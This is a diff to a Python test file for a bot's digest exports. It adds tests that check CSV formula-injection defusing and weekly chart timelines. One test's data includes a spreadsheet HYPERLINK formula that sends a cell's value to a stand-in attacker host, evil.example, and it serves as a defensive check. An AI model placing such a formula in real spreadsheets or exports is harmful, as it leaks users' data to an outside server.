@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 from dataclasses import replace
+from datetime import date, timedelta
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -25,7 +26,7 @@ from bot.digests.report import (
     write_exports,
 )
 from bot.digests.rows import AuditRow, DigestRows
-from bot.digests.stats import compute_digest
+from bot.digests.stats import compute_digest, fit_timeline
 from tests.digests.test_stats import PREVIOUS_START, answer, comment, rating, reason, rows
 
 PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
@@ -272,6 +273,55 @@ def test_jsonl_texts_are_checked_piece_by_piece(tmp_path: Path, monkeypatch: pyt
     assert '"answer":' + json.dumps(texts[1]) + "," in lines[1]
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1", "-x", "@SUM(1+1)", "\tx", "\rx"]
+
+
+@pytest.mark.parametrize(
+    "texts",
+    [
+        [*FORMULAS, "An ordinary comment."],  # quotes and a CR: the column is quoted, inner quotes doubled
+        ["+1", "-x", "@SUM(1+1)", "\tx", "=1+1", "An ordinary comment."],  # nothing to quote: written bare
+        ["-x", "An ordinary comment, with a comma."],  # quoted, no inner quote
+    ],
+)
+def test_csv_cells_that_start_like_a_formula_are_shown_as_text(tmp_path: Path, texts: list[str]):
+    """Spreadsheets run a cell starting with = + - @ (or a tab or CR before one) as a formula, even quoted:
+    the CSV prefixes such texts with "'" (OWASP); the JSONL keeps them exact, numbers are never prefixed."""
+    answers = [
+        replace(answer(1, question="=1+1", text="-x", language="-x", setting="=a,b"), tokens_in=-5),
+        answer(2, question="How do I greet my manager?", language=None, setting=None),
+    ]
+    ratings = [rating(1, "ana", 0), rating(2, "budi", 3)]  # a value of 0 on a 3-point scale: fit -0.5
+    comments = [comment(index, 1, "ana", text) for index, text in enumerate(texts)]
+    write_exports(rows(answers, ratings, comments=comments), tmp_path)
+
+    def csv_rows(name: str) -> list[dict[str, str]]:
+        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
+            return list(csv.DictReader(handle))
+
+    def jsonl_rows(name: str) -> list[dict[str, object]]:
+        return [json.loads(line) for line in (tmp_path / f"{name}.jsonl").read_text(encoding="utf-8").splitlines()]
+
+    defused = ["'" + text if text[0] in "=+-@\t\r" else text for text in texts]
+    assert [row["text"] for row in csv_rows("comments")] == defused
+    assert defused[-1] == texts[-1]  # an ordinary text is unchanged
+    assert [record["text"] for record in jsonl_rows("comments")] == texts
+    raw = (tmp_path / "comments.csv").read_bytes()
+    if "\rx" in texts:  # a field holding a CR is quoted (RFC 4180)
+        assert b'"\'\rx"' in raw
+    # Questions and answers, and other text columns (nullable ones and ones of few values too).
+    fields = ("question", "answer", "language", "setting")
+    table, records = csv_rows("answers"), jsonl_rows("answers")
+    assert [[row[name] for name in fields] for row in table] == [
+        ["'=1+1", "'-x", "'-x", "'=a,b"],
+        ["How do I greet my manager?", "It depends on the setting and the relationship.", "", ""],
+    ]
+    assert [records[0][name] for name in fields] == ["=1+1", "-x", "-x", "=a,b"]
+    assert table[0]["tokens_in"] == "-5" and records[0]["tokens_in"] == -5  # numbers stay numbers
+    assert [row["fit"] for row in csv_rows("ratings")] == ["-0.5", "1.0"]
+    assert [record["fit"] for record in jsonl_rows("ratings")] == [-0.5, 1.0]
+
+
 def test_exports_of_an_empty_period_have_headers(tmp_path: Path):
     write_exports(rows(), tmp_path)
     assert (tmp_path / "reasons.csv").read_bytes() == b"answer_id,rater_hash,tag\r\n"
@@ -320,6 +370,42 @@ def test_chart_with_a_long_history_goes_weekly(tmp_path: Path):
     assert_png(render_chart(current, history, digest, tmp_path / "chart.png"))
     # With just the digest's own two periods, the line is the digest's daily timeline.
     assert chart_points([previous, current], digest) == (list(digest.timeline), False)
+
+
+def test_the_chart_of_two_long_periods_draws_the_digests_weekly_timeline(tmp_path: Path):
+    """Two 28-day periods span more than 35 days: weekly points, from the digest rather than the rows, so that
+    the worker (which drops the previous period's rows) draws the previous period's weeks too."""
+    day = date(2026, 2, 1)
+
+    def period(first: int, start: date) -> DigestRows:
+        answers, ratings = [], []
+        for offset in range(28):
+            asked = (start + timedelta(days=offset)).isoformat() + "T10:00:00.000Z"
+            for k in range(2):
+                answer_id = first + offset * 2 + k
+                answers.append(replace(answer(answer_id), created_at=asked))
+                ratings += [
+                    replace(rating(answer_id, rater, (offset + k + r) % 3 + 1), created_at=asked, updated_at=asked)
+                    for r, rater in enumerate(("ana", "budi"))
+                ]
+        stamp = start.isoformat() + "T00:00:00.000Z", (start + timedelta(days=28)).isoformat() + "T00:00:00.000Z"
+        return replace(rows(answers, ratings), start=stamp[0], end=stamp[1])
+
+    previous, current = period(1000, day - timedelta(days=28)), period(1, day)
+    digest = compute_digest(current, previous, bootstrap=200)
+    stripped = DigestRows(previous.guild_id, previous.guild_name, previous.start, previous.end, audit=previous.audit)
+    full = chart_points([previous, current], digest)
+    assert full == chart_points([stripped, current], digest) == (list(digest.weekly_timeline), True)
+    # The weeks' fits are those of a weekly timeline over both periods' rows (intervals from other draws).
+    expected = fit_timeline([previous, current], bootstrap=200, weekly=True)
+    assert [(p.day, p.mean_fit.value, p.mean_fit.ratings, p.mean_fit.answers) for p in digest.weekly_timeline] == [
+        (p.day, p.mean_fit.value, p.mean_fit.ratings, p.mean_fit.answers) for p in expected
+    ]
+    assert [p.fit_share.value for p in digest.weekly_timeline] == [p.fit_share.value for p in expected]
+    assert len(digest.weekly_timeline) == 9 and digest.weekly_timeline[0].day == "2025-12-29"  # a Monday
+    assert all(p.mean_fit.low is not None for p in digest.weekly_timeline)
+    assert_png(render_chart(current, [stripped], digest, tmp_path / "chart.png"))
+    assert compute_digest(current, None).weekly_timeline == ()  # 28 days alone: daily, no weekly timeline
 
 
 # ---------------------------------------------------------------------------------------------- all files
